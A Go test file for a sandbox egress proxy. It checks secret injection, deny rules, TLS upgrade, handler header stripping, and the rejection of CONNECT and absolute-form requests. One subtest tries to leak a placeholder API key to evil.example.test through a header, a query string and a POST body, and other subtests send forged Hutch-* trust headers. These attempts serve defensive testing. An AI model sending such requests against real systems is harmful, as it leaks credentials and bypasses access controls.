package egress

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hutchdev/hutch/egresshandler"
	"github.com/hutchdev/hutch/errdefs"
	"github.com/hutchdev/hutch/internal/egress/audit"
	"github.com/hutchdev/hutch/internal/egress/egresstest"
	"github.com/hutchdev/hutch/internal/egress/inject"
	"github.com/hutchdev/hutch/internal/egress/policy"
	"github.com/hutchdev/hutch/internal/egress/webhook"
	"github.com/hutchdev/hutch/internal/netns"
)

// headersEcho is the api server's /headers answer.
type headersEcho struct {
	Host    string              `json:"host"`
	TLS     bool                `json:"tls"`
	Headers map[string][]string `json:"headers"`
}

// rawHTTP sends req (a raw HTTP/1.1 request) to addr from inside n and returns the response
// with its body read.
func rawHTTP(t *testing.T, n *netns.Net, addr, req string) (*http.Response, string) {
	t.Helper()
	c, err := dialFrom(t, n, "tcp", addr)
	if err != nil {
		t.Fatalf("dial %s: %v", addr, err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("response to %q: %v", req, err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp, string(b)
}

// TestPlainHTTPRequests covers plain HTTP (port 80) through the request handler shared with
// intercepted TLS: rules, placeholders and handlers apply per request; a request carrying a
// secret is upgraded to TLS upstream; placeholders towards other hosts are violations; abuse
// test 8 on port 80 (CONNECT 405, absolute-form 400, sandbox-sent Hutch-* headers never reach
// the handler).
func TestPlainHTTPRequests(t *testing.T) {
	alog, err := audit.New(t.TempDir(), 0, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer alog.Close()
	sock := filepath.Join(t.TempDir(), "h.sock")
	hln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	hmacKey := "handler-signing-key-plain"
	handled := make(chan http.Header, 4)
	hsrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f, err := egresshandler.Verify(r, []byte(hmacKey), time.Now())
		if err != nil {
			http.Error(w, err.Error(), http.StatusUnauthorized)
			return
		}
		handled <- r.Header.Clone()
		io.WriteString(w, "from-handler "+f.URL.String())
	})}
	go hsrv.Serve(hln)
	defer hsrv.Close()
	hd, err := webhook.New("ops", webhook.Config{URL: "unix:" + sock, SigningSecret: "HMAC"})
	if err != nil {
		t.Fatal(err)
	}
	tok := inject.NewPlaceholder()
	ph := "sk-" + tok
	ih, sb := newInterceptHarnessWith(t, map[string]string{"API_TOKEN": apiToken, "OPENAI": "openai-real-key-7777", "HMAC": hmacKey}, policy.Spec{
		Rules: []policy.Rule{
			{ID: "api-admin", Hosts: []string{"api.example.test"}, Match: &policy.Match{Path: &policy.PathMatch{Prefix: "/admin"}}, Action: policy.ActionDeny},
			{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
				Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.API_TOKEN}"}}},
			{ID: "hook", Hosts: []string{"hook.example.test"}, Action: policy.ActionHandler, Handler: "ops"},
		},
		Placeholders: []policy.Placeholder{{Secret: "OPENAI", Env: "OPENAI_API_KEY", Hosts: []string{"ph.example.test"}, Prefix: "sk-"}},
	}, map[string]string{"OPENAI": tok}, alog, func(c *Config) { c.Intercept.Handlers = map[string]*webhook.Handler{"ops": hd} })
	lastAPI := func() egresstest.APIRequest {
		reqs := ih.net.APIRequests()
		if len(reqs) == 0 {
			t.Fatal("no request reached the api")
		}
		return reqs[len(reqs)-1]
	}
	events := func(kind string) []audit.Event {
		alog.Flush()
		evs, _ := alog.Read(ih.sbID, 0, 10000)
		var out []audit.Event
		for _, e := range evs {
			if e.Kind == kind {
				out = append(out, e)
			}
		}
		return out
	}

	t.Run("an inject rule applies and the upstream leg is upgraded to TLS", func(t *testing.T) {
		body, status, err := curl(sb, "-H", "Authorization: Bearer mine", "-H", "Hutch-Signature: forged", "http://api.example.test/headers")
		if err != nil || status != "200" {
			t.Fatalf("%s %v %s", status, err, body)
		}
		var echo headersEcho
		if err := json.Unmarshal([]byte(body), &echo); err != nil {
			t.Fatalf("echo %q: %v", body, err)
		}
		if !echo.TLS || strings.Contains(body, apiToken) || !strings.Contains(body, "[redacted:API_TOKEN]") {
			t.Fatalf("echo: tls %v, body %s", echo.TLS, body)
		}
		last := lastAPI()
		if !last.TLS || last.Host != "api.example.test" || last.Header.Get("Authorization") != "Bearer "+apiToken || last.Header.Get("Hutch-Signature") != "" {
			t.Fatalf("upstream saw tls %v host %q headers %v", last.TLS, last.Host, last.Header)
		}
		var upgraded bool
		for _, e := range events(audit.KindHTTP) {
			upgraded = upgraded || (e.Mode == "http" && e.Rule == "api" && e.Status == 200 && strings.Contains(e.Reason, "upgraded to https") && contains(e.Injected, "Authorization"))
		}
		if !upgraded {
			t.Errorf("no http audit event recording the upgrade: %+v", events(audit.KindHTTP))
		}
	})

	t.Run("a deny rule answers 403 without contacting upstream", func(t *testing.T) {
		before := len(ih.net.APIRequests())
		body, status, _ := curl(sb, "http://api.example.test/admin/users")
		assertDenied(t, "deny rule over http", body, status)
		if n := len(ih.net.APIRequests()) - before; n != 0 {
			t.Fatalf("upstream saw %d denied requests", n)
		}
	})

	t.Run("hosts without rules or secrets stay plain HTTP", func(t *testing.T) {
		body, status, err := curl(sb, "http://other.example.test/headers")
		if err != nil || status != "200" || !strings.Contains(body, `"tls":false`) {
			t.Fatalf("%s %v %s", status, err, body)
		}
	})

	t.Run("a placeholder is swapped towards its host over TLS, refused elsewhere", func(t *testing.T) {
		body, status, err := curl(sb, "-H", "Authorization: Bearer "+ph, "http://ph.example.test/headers")
		if err != nil || status != "200" || !strings.Contains(body, `"tls":true`) || !strings.Contains(body, ph) || strings.Contains(body, "openai-real-key") {
			t.Fatalf("bound host: %s %v %s", status, err, body)
		}
		if last := lastAPI(); !last.TLS || last.Header.Get("Authorization") != "Bearer openai-real-key-7777" {
			t.Fatalf("upstream saw tls %v auth %q", last.TLS, last.Header.Get("Authorization"))
		}
		for _, args := range [][]string{
			{"-H", "Authorization: Bearer " + ph, "http://evil.example.test/"},
			{"-H", "X-Note: " + ph, "http://other.example.test/headers"},
			{"http://evil.example.test/?k=" + ph},
			{"--data", `{"k":"` + ph + `"}`, "http://evil.example.test/"},
		} {
			body, status, _ := curl(sb, args...)
			if status != "403" || !strings.Contains(body, string(errdefs.CodeEgressPlaceholderViolation)) {
				t.Errorf("%v: %s %s", args, status, body)
			}
		}
		violations := 0
		for _, e := range events(audit.KindViolation) {
			if e.Mode == "http" && e.Secrets[0] == "OPENAI" && e.Decision == inject.OnViolationBlock && e.Host != "ph.example.test" {
				violations++
			}
		}
		if violations != 4 {
			t.Errorf("%d violation events, want 4", violations)
		}
		for _, h := range ih.net.SinkHits() {
			t.Errorf("sink reached: %+v", h)
		}
	})

	t.Run("a handler rule gets only hutchd's Hutch-* headers", func(t *testing.T) {
		body, status, err := curl(sb, "-H", "Hutch-Signature: v1=forged", "-H", "Hutch-Forwarded-Host: internal",
			"-H", "Hutch-Sandbox: other", "http://hook.example.test/v1/x?y=1")
		if err != nil || status != "200" || body != "from-handler http://hook.example.test/v1/x?y=1" {
			t.Fatalf("handler: %s %v %q", status, err, body)
		}
		seen := <-handled
		if seen.Get("Hutch-Sandbox") != ih.sbID || seen.Get("Hutch-Forwarded-Host") != "hook.example.test" ||
			seen.Get("Hutch-Forwarded-Scheme") != "http" || len(seen.Values("Hutch-Signature")) != 1 || len(seen.Values("Hutch-Sandbox")) != 1 {
			t.Fatalf("handler saw %v", seen)
		}
	})

	t.Run("CONNECT is 405 and absolute-form targets naming elsewhere are 400", func(t *testing.T) {
		addr := net.JoinHostPort(egresstest.APIIP, "80")
		before := len(ih.net.APIRequests())
		resp, body := rawHTTP(t, sb, addr, "CONNECT api.internal.test:443 HTTP/1.1\r\nHost: api.internal.test:443\r\n\r\n")
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("CONNECT: %s %s", resp.Status, body)
		}
		for _, target := range []string{"http://127.0.0.1:9443/", "http://api.example.test:9443/headers", "https://api.example.test/headers"} {
			resp, body = rawHTTP(t, sb, addr, "GET "+target+" HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
			if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, string(errdefs.CodeInvalidArgument)) {
				t.Errorf("GET %s: %s %s", target, resp.Status, body)
			}
		}
		if n := len(ih.net.APIRequests()) - before; n != 0 {
			t.Fatalf("upstream saw %d refused requests", n)
		}
		// An absolute-form target naming the host itself is an ordinary request (rules apply).
		resp, body = rawHTTP(t, sb, addr, "GET http://api.example.test/headers HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
		if resp.StatusCode != 200 || lastAPI().Header.Get("Authorization") != "Bearer "+apiToken || strings.Contains(body, apiToken) {
			t.Fatalf("absolute-form to the host itself: %s %s", resp.Status, body)
		}
	})
}
